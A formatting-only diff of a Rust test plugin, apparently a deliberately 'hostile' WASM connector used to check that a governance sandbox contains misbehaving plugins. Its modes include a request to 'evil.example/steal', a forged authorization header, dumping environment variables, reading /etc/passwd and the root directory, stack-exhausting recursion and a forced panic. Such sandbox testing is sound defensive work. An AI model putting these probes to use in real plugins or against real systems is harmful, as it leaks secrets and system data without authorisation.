@@ -20,21 +20,36 @@ use governance::connector::types::*;
 use wasip2::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
 
 /// GET `scheme://authority/path` with extra headers; returns status and body, or the error.
-fn get(scheme: Scheme, authority: &str, path: &str, headers: &[(&str, &str)]) -> Result<(u16, String), String> {
+fn get(
+    scheme: Scheme,
+    authority: &str,
+    path: &str,
+    headers: &[(&str, &str)],
+) -> Result<(u16, String), String> {
     let fields = Fields::new();
     for (k, v) in headers {
-        fields.append(k, v.as_bytes()).map_err(|e| format!("header {k} refused: {e:?}"))?;
+        fields
+            .append(k, v.as_bytes())
+            .map_err(|e| format!("header {k} refused: {e:?}"))?;
     }
     let req = OutgoingRequest::new(fields);
-    req.set_method(&Method::Get).map_err(|_| "method".to_string())?;
-    req.set_scheme(Some(&scheme)).map_err(|_| "scheme".to_string())?;
-    req.set_authority(Some(authority)).map_err(|_| "authority".to_string())?;
-    req.set_path_with_query(Some(path)).map_err(|_| "path".to_string())?;
+    req.set_method(&Method::Get)
+        .map_err(|_| "method".to_string())?;
+    req.set_scheme(Some(&scheme))
+        .map_err(|_| "scheme".to_string())?;
+    req.set_authority(Some(authority))
+        .map_err(|_| "authority".to_string())?;
+    req.set_path_with_query(Some(path))
+        .map_err(|_| "path".to_string())?;
     let body = req.body().map_err(|_| "body".to_string())?;
     let fut = wasip2::http::outgoing_handler::handle(req, None).map_err(|e| format!("{e:?}"))?;
     OutgoingBody::finish(body, None).map_err(|e| format!("{e:?}"))?;
     fut.subscribe().block();
-    let resp = fut.get().ok_or("not ready")?.map_err(|_| "taken")?.map_err(|e| format!("{e:?}"))?;
+    let resp = fut
+        .get()
+        .ok_or("not ready")?
+        .map_err(|_| "taken")?
+        .map_err(|e| format!("{e:?}"))?;
     let status = resp.status();
     let body = resp.consume().map_err(|_| "consume")?;
     let stream = body.stream().map_err(|_| "stream")?;
@@ -69,7 +84,11 @@ fn report(text: String) -> AccountPage {
 #[inline(never)]
 fn recurse(n: u64) -> u64 {
     let pad = std::hint::black_box([n; 64]);
-    if n == u64::MAX { 0 } else { recurse(n + 1).wrapping_add(pad[3]) }
+    if n == u64::MAX {
+        0
+    } else {
+        recurse(n + 1).wrapping_add(pad[3])
+    }
 }
 
 struct Hostile;
@@ -94,22 +113,42 @@ impl Guest for Hostile {
     }
 
     fn list_accounts(cfg: Config, _cursor: Option<String>) -> Result<AccountPage, ConnectorError> {
-        let mode = cfg.options.iter().find(|(k, _)| k == "mode").map(|(_, v)| v.as_str()).unwrap_or("ok");
+        let mode = cfg
+            .options
+            .iter()
+            .find(|(k, _)| k == "mode")
+            .map(|(_, v)| v.as_str())
+            .unwrap_or("ok");
         let accounts = "/2010-04-01/Accounts.json";
         let text = match mode {
             "ok" => "ok".to_string(),
             "foreign-host" => format!("{:?}", get(Scheme::Https, "evil.example", "/steal", &[])),
             "plain-http" => format!("{:?}", get(Scheme::Http, "api.twilio.com", accounts, &[])),
-            "other-port" => format!("{:?}", get(Scheme::Https, "api.twilio.com:8443", accounts, &[])),
-            "own-auth" => format!("{:?}", get(Scheme::Https, "api.twilio.com", accounts, &[("authorization", "Basic QUM6c3RvbGVu")])),
+            "other-port" => format!(
+                "{:?}",
+                get(Scheme::Https, "api.twilio.com:8443", accounts, &[])
+            ),
+            "own-auth" => format!(
+                "{:?}",
+                get(
+                    Scheme::Https,
+                    "api.twilio.com",
+                    accounts,
+                    &[("authorization", "Basic QUM6c3RvbGVu")]
+                )
+            ),
             "echo" => match get(Scheme::Https, "api.twilio.com", accounts, &[]) {
                 Ok((_, body)) => body,
                 Err(e) => e,
             },
             "env" => {
                 let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
-                let root = std::fs::read_dir("/").map(|d| d.count()).map_err(|e| e.to_string());
-                let passwd = std::fs::read_to_string("/etc/passwd").map(|s| s.len()).map_err(|e| e.to_string());
+                let root = std::fs::read_dir("/")
+                    .map(|d| d.count())
+                    .map_err(|e| e.to_string());
+                let passwd = std::fs::read_to_string("/etc/passwd")
+                    .map(|s| s.len())
+                    .map_err(|e| e.to_string());
                 let args: Vec<String> = std::env::args().collect();
                 format!("vars={vars:?} root={root:?} passwd={passwd:?} args={args:?}")
             }
@@ -142,7 +181,11 @@ impl Guest for Hostile {
                 last
             }
             "trap" => panic!("hostile plugin panicked on purpose"),
-            other => return Err(ConnectorError::InvalidConfig(format!("unknown mode {other}"))),
+            other => {
+                return Err(ConnectorError::InvalidConfig(format!(
+                    "unknown mode {other}"
+                )));
+            }
         };
         Ok(report(text))
     }
@@ -163,7 +206,11 @@ impl Guest for Hostile {
         Err(ConnectorError::Unsupported("hostile".into()))
     }
 
-    fn provision(_c: Config, _r: ProvisionRequest, _d: bool) -> Result<ActionResult, ConnectorError> {
+    fn provision(
+        _c: Config,
+        _r: ProvisionRequest,
+        _d: bool,
+    ) -> Result<ActionResult, ConnectorError> {
         Err(ConnectorError::Unsupported("hostile".into()))
     }
 }
